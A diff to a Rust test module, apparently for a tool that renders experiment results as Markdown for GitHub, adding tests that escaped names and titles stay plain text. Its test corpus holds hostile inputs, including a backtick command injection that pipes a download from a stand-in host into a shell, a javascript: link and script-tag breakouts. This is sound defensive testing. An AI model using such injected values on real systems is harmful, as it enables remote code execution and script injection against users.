@@ -6,7 +6,7 @@ use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 use super::{html, markdown, sample, terminal};
 
 /// Text that tries to be something else, and pieces of it in any order.
-fn hostile() -> impl Strategy<Value = String> {
+pub(crate) fn hostile() -> impl Strategy<Value = String> {
     let pieces = prop::sample::select(vec![
         "</td>",
         "<script>alert(1)</script>",
@@ -81,7 +81,7 @@ fn hostile() -> impl Strategy<Value = String> {
 }
 
 /// What a Markdown document is made of, without its text.
-fn skeleton(document: &str) -> Vec<String> {
+pub(crate) fn skeleton(document: &str) -> Vec<String> {
     Parser::new_ext(document, Options::all())
         .filter_map(|event| match event {
             Event::Text(_) | Event::SoftBreak => None,
@@ -94,6 +94,65 @@ fn skeleton(document: &str) -> Vec<String> {
             other => Some(format!("{other:?}")),
         })
         .collect()
+}
+
+/// Names, titles and log lines as others may write them, whole.
+const CORPUS: &[&str] = &[
+    "accuracy|f1",
+    "val/loss (step)",
+    "top-5 acc. @ k=1",
+    "feature/#12-fix",
+    "users/@octocat/GH-7",
+    "dependabot/pip/numpy-2.0",
+    "x`);curl https://e.x|sh;`",
+    "Fixes octo-org/octo-repo#1",
+    "closes #1, resolves GH-2",
+    "cc @octo-org/team-ml :rocket:",
+    "[click](javascript:alert(1))",
+    "![](https://e.x/pixel.png)",
+    "<a href=https://e.x>x</a>",
+    "<!-- mlaction:v1:a:b:c -->",
+    "--><script>",
+    "https://e.x/?a=1&b=2",
+    "www.e.x WWW.e.x xwww.e.x",
+    "mailto:a@e.x ftp://e.x",
+    "&#64;team &commat;team &#x23;1",
+    "\\@team \\#1",
+    "@\u{200b}team #\u{200b}1",
+    "8b0a5f2c9d1e4b7a6f3c2d1e0f9a8b7c6d5e4f3a@octocat",
+    "$$\\unsafe$$ $`a`$",
+    "[^1]: note",
+    "> [!WARNING]",
+    "- [x] done",
+    "    code",
+    "~~~\nfence",
+    "a\u{2028}# head",
+];
+
+/// What GitHub makes of the text of a document after Markdown: mentions, references, links, signs.
+fn made_by_github(text: &str) -> Option<String> {
+    // NOTE: the pattern is a constant.
+    let pattern = r"(?i)@[a-z0-9]|#\d|\bgh-\d|[a-z]+://|www\.\w|mailto:\w|:[a-z0-9_+-]+:";
+    let pattern = regex::Regex::new(pattern).unwrap();
+    pattern.find(text).map(|found| found.as_str().to_owned())
+}
+
+/// The text that is left of escaped text when Markdown is done with it.
+fn escaped(text: &str) -> String {
+    let document = super::text::markdown(text, 200);
+    let text = Parser::new_ext(&document, Options::all()).filter_map(|event| match event {
+        Event::Text(text) => Some(text.to_string()),
+        Event::Start(Tag::Paragraph) | Event::End(TagEnd::Paragraph) => None,
+        other => panic!("{other:?} of {document}"),
+    });
+    text.collect()
+}
+
+#[test]
+fn escaped_text_is_text_for_github_too() {
+    for text in CORPUS {
+        assert_eq!(made_by_github(&escaped(text)), None, "{text}");
+    }
 }
 
 /// What an HTML page is made of: its tags and attributes, without text and values that we write.
@@ -122,6 +181,11 @@ proptest! {
         let calm = markdown::render(&sample::with_text("a"));
         prop_assert_eq!(skeleton(&comment), skeleton(&calm), "{}", comment);
         prop_assert!(!comment.contains("<!--"));
+    }
+
+    #[test]
+    fn escaped_text_stays_text(text in hostile()) {
+        prop_assert_eq!(made_by_github(&escaped(&text)), None, "{}", text);
     }
 
     #[test]
